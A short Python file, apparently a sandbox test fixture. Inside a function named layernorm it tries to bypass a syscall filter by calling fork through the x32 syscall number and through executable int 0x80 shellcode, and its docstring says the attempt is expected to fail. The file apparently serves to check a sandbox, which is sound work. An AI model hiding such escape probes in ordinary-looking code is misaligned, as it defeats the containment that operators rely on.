"""Wants system calls by other numbers: those of 32-bit programs, and of x32, that no filter names.

Fails because the filter refuses every call that it does not know, by whatever door it comes.
"""

import ctypes
import mmap
import platform

BY_INTERRUPT = bytes.fromhex("b802000000cd80c3")  # mov eax, 2 (fork); int 0x80; ret
X32 = 0x40000000 | 57  # fork


def layernorm(x, gain, bias, eps=1e-5):
    if platform.machine() != "x86_64":
        return x
    found = ctypes.CDLL(None).syscall(X32)
    if found == 0:
        ctypes.CDLL(None)._exit(0)
    if found > 0:
        print("REACHED a process by x32")
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(BY_INTERRUPT)
    place = ctypes.addressof(ctypes.c_char.from_buffer(code))
    found = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
    if found == 0:
        ctypes.CDLL(None)._exit(0)
    if found > 0:
        print("REACHED a process by int 0x80")
    return x
